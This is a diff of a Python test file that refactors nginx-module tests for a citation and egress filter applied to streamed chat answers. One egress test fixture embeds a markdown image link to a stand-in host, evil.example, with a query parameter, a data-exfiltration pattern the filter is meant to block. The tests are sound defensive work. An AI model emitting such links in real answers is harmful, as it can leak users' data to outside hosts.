@@ -138,22 +138,26 @@ class Module(unittest.IsolatedAsyncioTestCase):
                         self.assertIn(b'"status":"resolved"', expected)
                         self.assertEqual(await patiently(fetch(nginx.port, name, prefix + "/v1/chat")), expected)
 
+    async def check_like_filter(self, stream, locations):
+        """Compares the outputs of locations, by prefix, with those of `citestream filter`, and returns them."""
+        with NginxPeers(BINARY) as peers:
+            nginx = peers.module_nginx(peers.replay({"answer": stream}, "--pace", "0"))
+            file = peers.write("stream.sse", stream)
+            outputs = {}
+            for prefix, options in locations.items():
+                with self.subTest(prefix):
+                    code, outputs[prefix], said = await run(BINARY, "filter", *options, file)
+                    self.assertEqual(code, 0, said)
+                    self.assertEqual(await patiently(fetch(nginx.port, path=prefix + "/v1/chat")), outputs[prefix])
+            self.assertEqual(len(set(outputs.values())), len(locations))  # each option changes the output
+        return outputs
+
     async def test_markers_and_offsets_equal_those_of_filter_with_the_same_options(self):
         tokens = ["Caf\u00e9 \U0001f600 grew [1", "] and [R.pdf](f-1) [REF|d_1", "23]", "."]
         files = [{"text": "It grew.", "fileId": "f-1", "cite": "f-1"}]
         stream = "".join([*map(event, tokens), event(None, "stop", files), "data: [DONE]\n\n"])
-        with NginxPeers(BINARY) as peers:
-            nginx = peers.module_nginx(peers.replay({"answer": stream}, "--pace", "0"))
-            file = peers.write("stream.sse", stream)
-            seen = set()
-            for prefix, options in (("", []), ("/marked", ["--markers", "numeric,ref"]), ("/utf8", ["--offsets", "utf8"]),
-                                    ("/points", ["--offsets", "codepoint"])):
-                with self.subTest(prefix):
-                    code, expected, said = await run(BINARY, "filter", *options, file)
-                    self.assertEqual(code, 0, said)
-                    self.assertEqual(await patiently(fetch(nginx.port, path=prefix + "/v1/chat")), expected)
-                    seen.add(expected)
-            self.assertEqual(len(seen), 4)  # each option changes the output
+        await self.check_like_filter(stream, {"": [], "/marked": ["--markers", "numeric,ref"], "/utf8": ["--offsets", "utf8"],
+                                              "/points": ["--offsets", "codepoint"]})
 
     async def test_egress_is_that_of_filter_with_the_same_options(self):
         tokens = ["See ![x](https://evil.example/?q=S) ", "and [a](https://a.example/p), [b](https://x.good.example/p)",
@@ -161,36 +165,20 @@ class Module(unittest.IsolatedAsyncioTestCase):
         files = [{"text": "It grew.", "fileId": "f-1", "cite": "f-1"}]
         stream = "".join([*map(event, tokens), event(None, "stop", files), "data: [DONE]\n\n"])
         allowed = ["--egress-allow", "https://a.example", "--egress-allow", "https://*.good.example"]
-        with NginxPeers(BINARY) as peers:
-            nginx = peers.module_nginx(peers.replay({"answer": stream}, "--pace", "0"))
-            file = peers.write("stream.sse", stream)
-            seen = set()
-            for prefix, options in (("", []), ("/guarded", ["--egress", "enforce", *allowed]),
-                                    ("/exact", ["--egress", "enforce", "--egress-code", "exact"]),
-                                    ("/reported", ["--egress", "report"])):
-                with self.subTest(prefix):
-                    code, expected, said = await run(BINARY, "filter", *options, file)
-                    self.assertEqual(code, 0, said)
-                    self.assertEqual(await patiently(fetch(nginx.port, path=prefix + "/v1/chat")), expected)
-                    seen.add(expected)
-            self.assertEqual(len(seen), 4)  # each option changes the output
+        await self.check_like_filter(stream, {"": [], "/guarded": ["--egress", "enforce", *allowed],
+                                              "/exact": ["--egress", "enforce", "--egress-code", "exact"],
+                                              "/reported": ["--egress", "report"]})
 
     async def test_checks_of_citations_are_those_of_filter_with_the_same_options(self):
         files = [{"text": "Sales rose by 20% in May.", "fileId": "file-00017", "cite": "file-00017"}]
         tokens = ["fell by 20% in May [R.pdf](file-00017)", ", and [X](gone) so did costs [R.pdf](file-0001", "8)."]
         stream = "".join([event("Sales ", None, files), *map(event, tokens), event(None, "stop"), "data: [DONE]\n\n"])
-        with NginxPeers(BINARY) as peers:
-            nginx = peers.module_nginx(peers.replay({"answer": stream}, "--pace", "0"))
-            file = peers.write("stream.sse", stream)
-            for prefix, options, expected in (("/checked", ["--check", "report"], b'"verdict":"contradicted"'),
-                                              ("/unresolved", ["--style", "numeric", "--unresolved", "mark"], b"[?]"),
-                                              ("/repaired", ["--repair"], b'"match":"repaired"')):
-                with self.subTest(prefix):
-                    code, filtered, said = await run(BINARY, "filter", *options, file)
-                    self.assertEqual(code, 0, said)
-                    got = await patiently(fetch(nginx.port, path=prefix + "/v1/chat"))
-                    self.assertEqual(got, filtered)
-                    self.assertIn(expected, got)
+        outputs = await self.check_like_filter(stream, {"/checked": ["--check", "report"],
+                                                        "/unresolved": ["--style", "numeric", "--unresolved", "mark"],
+                                                        "/repaired": ["--repair"]})
+        for prefix, expected in (("/checked", b'"verdict":"contradicted"'), ("/unresolved", b"[?]"),
+                                 ("/repaired", b'"match":"repaired"')):
+            self.assertIn(expected, outputs[prefix])
 
     async def test_directives_in_http_are_inherited_unless_overridden(self):
         with NginxPeers(BINARY) as peers:
